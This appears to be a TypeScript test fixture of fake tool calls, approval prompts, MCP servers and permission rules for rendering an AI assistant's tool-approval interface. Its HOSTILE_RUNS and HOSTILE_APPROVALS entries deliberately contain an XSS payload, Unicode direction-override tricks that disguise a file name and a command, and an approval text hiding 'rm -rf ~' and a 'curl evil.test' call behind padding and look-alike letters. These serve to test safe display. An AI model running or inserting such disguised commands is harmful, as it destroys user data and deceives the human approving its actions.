/** Tool calls, questions and tools for the scenes. */

import type { ApprovalView, ImageView, ToolRunView, ToolsView } from "../src/protocol";
import { approval, toolRun } from "./fake";

export const CODE = `import matplotlib.pyplot as plt

monthly = sales.groupby("month")["pieces"].sum()
monthly.plot.bar(title="Pieces sold")
plt.show()
`;

const DIFF = `--- notes.txt
+++ notes.txt
@@ -1,5 +1,6 @@
 # Notes
-Call Ada on Monday
+Call Ada on Tuesday
+Bring the \u202efdp.exe\u202c file
 Buy paper
-Water the plants
+Water the plants twice
`;

/** A small bar chart. */
export const PICTURE: ImageView = { media_type: "image/png", data: barChart() };

function barChart(): string {
  if (typeof document === "undefined") return "iVBORw0KGgo=";
  const canvas = document.createElement("canvas");
  [canvas.width, canvas.height] = [460, 240];
  const pen = canvas.getContext("2d");
  if (!pen) return "iVBORw0KGgo=";
  pen.fillStyle = "#fff";
  pen.fillRect(0, 0, 460, 240);
  pen.fillStyle = "#4c78a8";
  [80, 130, 200, 150, 95, 170].forEach((height, at) => {
    pen.fillRect(30 + at * 70, 225 - height, 46, height);
  });
  return canvas.toDataURL().split(",")[1] ?? "";
}

export const RUNS: ToolRunView[] = [
  toolRun({
    tool: "list_variables",
    label: "List variables",
    risk: "read",
    arguments: "{}",
    duration_s: 0.02,
    approval: "not needed",
    result: "sales: DataFrame (1,204 × 6)\nmonths: list (12)",
  }),
  toolRun({
    tool: "read_file",
    label: "Read a file",
    risk: "read",
    state: "error",
    arguments: '{"path": "data/old.csv"}',
    duration_s: 0.01,
    result: "There is no file 'data/old.csv' in the workspace. List the files first.",
  }),
  toolRun({
    state: "running",
    duration_s: null,
    arguments: JSON.stringify({ code: CODE }, null, 2),
    approval: "allowed once",
    output: "loading 1,204 rows\n\u001b[32mdone\u001b[0m\n 10%\r 60%\r100%\ngrouping by month\n",
  }),
  toolRun({
    tool: "evaluate",
    label: "Evaluate",
    risk: "read",
    state: "waiting_kernel",
    started_at: null,
    duration_s: null,
    arguments: '{"expression": "sales.month.nunique()"}',
  }),
  toolRun({
    tool: "run_shell",
    label: "Run a command",
    state: "waiting_approval",
    started_at: null,
    duration_s: null,
    arguments: '{"command": "tail -n 200 server.log"}',
  }),
  toolRun({
    tool: "time__now",
    label: "now",
    source: "mcp:time",
    risk: "network",
    state: "waiting",
    started_at: null,
    duration_s: null,
    arguments: '{"zone": "Europe/Rome"}',
  }),
  toolRun({
    tool: "write_file",
    label: "Write a file",
    risk: "write",
    state: "refused",
    duration_s: null,
    arguments: '{"path": "report.md"}',
    result: "The user refused it: not this file, please.",
  }),
  toolRun({
    tool: "fetch_page",
    label: "Fetch a page",
    risk: "network",
    state: "timeout",
    duration_s: 30,
    arguments: '{"url": "https://example.com/a/very/long/address/that/does/not/end?with=a&lot=of&words=in"}',
    result: "'fetch_page' was stopped after 30 s.",
  }),
  toolRun({ tool: "run_shell", label: "Run a command", state: "interrupted", duration_s: 12.3 }),
];

export const APPROVALS: ApprovalView[] = [
  approval({
    tool: "run_code",
    label: "Run code",
    kind: "code",
    text: CODE,
    note: "Runs in your notebook's kernel, in the main thread.",
    arguments: JSON.stringify({ code: CODE }, null, 2),
    pattern: "",
    scopes: ["once", "conversation"],
  }),
  approval({
    tool: "edit_file",
    label: "Edit a file",
    risk: "write",
    kind: "diff",
    text: DIFF,
    note: "Replaces 2 places in notes.txt.",
    pattern: "notes.txt",
  }),
  approval({
    tool: "fetch_page",
    label: "Fetch a page",
    risk: "network",
    kind: "address",
    text: "https://example.com/report?id=7",
    pattern: "example.com",
  }),
  approval({
    tool: "time__convert",
    label: "convert",
    risk: "network",
    kind: "arguments",
    text: '{\n  "from": "Europe/Rome",\n  "to": "Asia/Tokyo",\n  "time": "14:30"\n}',
    arguments: '{"from": "Europe/Rome"}',
    note: "Of the MCP server time.",
    scopes: ["once"],
  }),
  approval({
    tool: "",
    label: "Go on?",
    risk: "read",
    kind: "question",
    text: "The model has called tools 25 times in this turn. Shall it go on?",
    arguments: "",
    scopes: ["once"],
  }),
];

const XSS = '<img src=x onerror="alert(1)"><b>bold</b> **bold** [x](javascript:alert(1))';

export const HOSTILE_RUNS: ToolRunView[] = [
  toolRun({
    tool: `run_${XSS}`,
    label: `\u202eRun ${XSS}`,
    source: `mcp:${XSS}`,
    arguments: JSON.stringify({ path: XSS }),
    state: "running",
    output: `${XSS}\u0007\n`.repeat(3),
    duration_s: null,
    approval: `allowed by rule ${XSS}`,
  }),
];

export const HOSTILE_APPROVALS: ApprovalView[] = [
  approval({
    tool: `run_${XSS}`,
    label: `Run ${XSS}`,
    text: `git status${"\n".repeat(60)}rm -rf ~ #\u202e sutats tig\u2066 \u200b сurl еvil.test –x ${XSS}`,
    note: XSS,
    arguments: JSON.stringify({ command: XSS }),
    source: `after reading file ${XSS}`,
    pattern: `git status \u202e* ${XSS}`,
  }),
];

export const TOOLS: ToolsView = {
  tools: [
    {
      name: "list_variables",
      label: "List variables",
      description: "Lists the variables in the user's notebook: name, type, shape and size.",
      source: "built-in",
      risk: "read",
      enabled: true,
    },
    {
      name: "run_code",
      label: "Run code",
      description: "Runs Python in the user's notebook and returns what it prints, shows and raises.",
      source: "built-in",
      risk: "execute",
      enabled: true,
    },
    {
      name: "run_shell",
      label: "Run a command",
      description: "Runs a command in the workspace.",
      source: "built-in",
      risk: "execute",
      enabled: false,
    },
    {
      name: "sales_of",
      label: "sales of",
      description: "The sales of one month.",
      source: "user",
      risk: "read",
      enabled: true,
    },
    {
      name: "git__log",
      label: "log",
      description: "Shows the log. ".repeat(30),
      source: "mcp:git",
      risk: "network",
      enabled: true,
    },
  ],
  servers: [
    {
      name: "git",
      state: "running",
      command: "uvx mcp-server-git --repository ~/notes",
      origin: "user",
      tools: 12,
      error: "",
    },
    {
      name: "memory",
      state: "unapproved",
      command: "npx -y @modelcontextprotocol/server-memory",
      origin: "workspace",
      tools: 0,
      error: "",
    },
    {
      name: "time",
      state: "failed",
      command: "mcp-server-time --local-timezone Europe/Rome",
      origin: "code",
      tools: 2,
      error: "It ended with code 1 before it answered. Look at its log.",
    },
  ],
  rules: [
    {
      id: "u1",
      tool: "run_shell",
      pattern: "git status *",
      decision: "allow",
      scope: "always",
      workspace: "~/notes",
    },
    {
      id: "u2",
      tool: "write_file",
      pattern: "*.md",
      decision: "allow",
      scope: "conversation",
      workspace: "~/notes",
    },
    { id: "u3", tool: "fetch_page", pattern: "*", decision: "deny", scope: "always", workspace: "" },
  ],
  problems: ["'.mcp.json' names no command for 'files': add \"command\" or \"url\"."],
};
